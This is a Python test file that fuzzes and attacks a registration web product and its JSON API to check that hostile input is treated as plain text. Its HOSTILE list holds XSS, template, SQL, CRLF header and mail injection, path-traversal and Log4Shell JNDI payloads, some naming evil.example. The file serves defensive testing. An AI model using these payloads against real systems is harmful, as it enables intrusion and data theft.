"""The running product attacked.

Hostile text in every field, thousands of forms, and the JSON API by its own description.
"""

import asyncio
import json
import re
from collections import Counter
from collections.abc import Callable
from typing import Any

import httpx2
import pytest
import schemathesis
from hypothesis import given
from hypothesis import strategies as st

from tests.fuzz.sizes import cases
from tests.fuzz.test_parsers import FIELDS, likely
from tests.product.conftest import Product, csrf_of
from tests.product.storage import rows, without_the_keys
from tests.product.test_enumeration import other_api

FORMS = {
    "/registro/delegado": FIELDS,
    "/registro/profesional": FIELDS,
    "/registro/sso": FIELDS,
    "/registro/otro": FIELDS,
    "/ingreso/mipres": ("usuario", "contrasena"),
    "/ingreso/administracion": ("usuario", "contrasena"),
    "/contrasena": ("contrasena", "confirmacion"),
    "/contrasena/recuperar": ("tipo_documento", "numero_documento", "captcha"),
    "/registro/estado/RM-000000000000/reenviar": ("motivo",),
}
_DOCUMENT = {"tipo_documento": "CC", "numero_documento": "70999933", "acepta_datos": "SI"}
GOOD = (
    {**_DOCUMENT, "registro_profesional": "76-1234"},
    {**_DOCUMENT, "tipo_entidad": "IPS", "nit": "900123456"},
    {**_DOCUMENT, "tipo_entidad": "EPS", "regimen": "SUBSIDIADO", "nit": "900123456"},
    {**_DOCUMENT, "tipo_entidad": "PROVEEDOR", "tiene_nit": "NO", "departamento": "11", "municipio": "11001"},
    {"usuario": "CC70999933", "contrasena": "x"},
)
HOSTILE = (
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "{{7*191}}",
    "${7*191}",
    "{% include '/etc/passwd' %}",
    "' OR '1'='1",
    "1; DROP TABLE accounts; --",
    "%0d%0aSet-Cookie: x=1",
    "x\r\nBcc: evil@evil.example\r\n\r\nbody",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "\x00",
    "\u202e\u200b\ufeff",
    "A" * 5_000,
)


def tell(capsys: pytest.CaptureFixture[str], what: str, seen: Counter[int]) -> None:
    """Say how many answers there were, and how many of them should not be."""
    failed = sum(times for status, times in seen.items() if status >= 500)
    told = ", ".join(f"{times} × {int(status)}" for status, times in sorted(seen.items()))
    with capsys.disabled():
        print(f"\n{what}: {sum(seen.values())} casos, {failed} respuestas de 500 o más ({told})")  # noqa: T201


async def test_hostile_text_in_any_field_is_only_text(product: Product) -> None:
    async with other_api(product, rate_limits="off") as client:
        token = csrf_of(await client.get("/ingreso/mipres"))
        for path, fields in FORMS.items():
            for hostile in HOSTILE:
                sent = {"csrf_token": token, **dict.fromkeys(fields, hostile)}
                answer = await client.post(path, data=sent)
                assert answer.status_code < 500, (path, hostile)
                assert "alert(1)>" not in answer.text, (path, hostile)
                assert "<script>alert" not in answer.text, (path, hostile)
                assert "1337" not in answer.text, (path, hostile)
                assert "root:x:" not in answer.text, (path, hostile)
                assert "evil" not in str(answer.headers), (path, hostile)
        for hostile in HOSTILE:
            body = {"user_type": hostile, "document": {"type": hostile, "number": hostile}}
            for request in (body, {**body, "user_type": "other", "data_terms_accepted": True}):
                answer = await product.api.post(
                    "/api/v1/registrations", json=request, headers=product.headers
                )
                assert answer.status_code == 422, hostile


async def test_thousands_of_forms_bring_nothing_down(
    product: Product, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every answer is one that we meant to give.

    A page, a redirect or a refusal, and never a 500.
    """
    seen: Counter[int] = Counter()
    async with other_api(product, rate_limits="off") as client:
        token = csrf_of(await client.get("/ingreso/mipres"))

        async def send(path: str, fields: dict[str, str]) -> httpx2.Response:
            return await client.post(path, data={"csrf_token": token, **fields})

        def attack(path: str, fields: dict[str, str]) -> None:
            sending = asyncio.run_coroutine_threadsafe(send(path, fields), loop)
            seen[sending.result(30).status_code] += 1

        loop = asyncio.get_running_loop()
        hunted = cases(400, long=6_000)(given(st.sampled_from(list(FORMS)), forms())(attack))
        await asyncio.to_thread(hunted)
    tell(capsys, "formularios", seen)
    assert {200, 403, 404, 422} <= set(seen)
    assert [status for status in seen if status >= 500] == []


def forms() -> st.SearchStrategy[dict[str, str]]:
    """Forms with anything in them, and good ones with one field or two gone wrong."""
    names = st.sampled_from((*FIELDS, "usuario", "contrasena", "confirmacion", "csrf_token"))
    anything = st.dictionaries(names, likely, max_size=8)
    wrong = st.dictionaries(names, likely, max_size=2)
    nearly = st.builds(lambda good, bad: {**good, **bad}, st.sampled_from(GOOD), wrong)
    return st.one_of(anything, nearly).map(_sendable)


def _sendable(fields: dict[str, str]) -> dict[str, str]:
    return {name: value.encode(errors="replace").decode() for name, value in fields.items()}


# Its own description allows more than the product accepts: a document number is a text there, and a rule here.
schemathesis.checks.load_all_checks()
BEYOND_THE_DESCRIPTION = schemathesis.checks.CHECKS.get_by_names(["positive_data_acceptance"])


async def test_the_api_keeps_to_its_own_description(
    product: Product, capsys: pytest.CaptureFixture[str]
) -> None:
    """Schemathesis: every check that it has, over every operation."""
    seen: Counter[int] = Counter()

    def attack() -> None:
        schema = schemathesis.openapi.from_url(f"{product.url}/api/openapi.json")
        for found in schema.get_all_operations():
            operation: Any = found.ok()  # type: ignore[union-attr]  # A wrong description raises here.
            hunted: Callable[[], None] = cases(40, long=1_500)(given(case=operation.as_strategy())(judge))
            hunted()

    def judge(case: Any) -> None:
        answer = case.call(headers=product.headers)
        seen[answer.status_code] += 1
        case.validate_response(answer, excluded_checks=BEYOND_THE_DESCRIPTION)

    await asyncio.to_thread(attack)
    tell(capsys, "API", seen)
    assert [status for status in seen if status >= 500] == []


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"null",
        b"[]",
        b'"x"',
        b"\xff\xfe",
        b'{"user_type":"other","user_type":"professional"}',
        b"[" * 5_000,
        json.dumps({"user_type": "other", "document": {"type": "CC", "number": 10**30}}).encode(),
        b'{"document": NaN}',
    ],
    ids=range(10),
)
async def test_a_body_that_is_no_request_is_a_clients_mistake(product: Product, body: bytes) -> None:
    headers = {**product.headers, "Content-Type": "application/json"}
    answer = await product.api.post("/api/v1/registrations", content=body, headers=headers)
    assert answer.status_code in {400, 422}
    assert answer.headers["content-type"] == "application/problem+json"
    assert not re.search(r"Traceback|pydantic|File \"", answer.text)


async def test_a_forged_message_in_temporal_is_a_security_event_and_harms_nothing(product: Product) -> None:
    person = await product.new_professional()
    radicado = (await product.register_professional(person)).json()["radicado"]
    await product.reaches(radicado, "awaiting_password")
    stranger = await without_the_keys(product)
    handle = stranger.get_workflow_handle(f"registration/{radicado}")
    for _ in range(3):
        await handle.signal("password_set", "CC1020304050")

    async def recorded() -> list[Any]:
        return await rows(
            product,
            "SELECT actor, reference, person, reason, details FROM audit_entries"
            " WHERE type = 'payload_refused' AND reference = $1",
            radicado,
        )

    async def is_recorded() -> bool:
        return bool(await recorded())

    await product.eventually(is_recorded)
    # One row for the three, and nothing that the stranger wrote.
    [row] = await recorded()
    assert (row["actor"], row["person"], row["reason"]) == ("product", None, None)
    assert json.loads(row["details"]) == {"fault": "plaintext", "times": 1}
    await product.reaches(radicado, "awaiting_password")
    await product.complete(person)
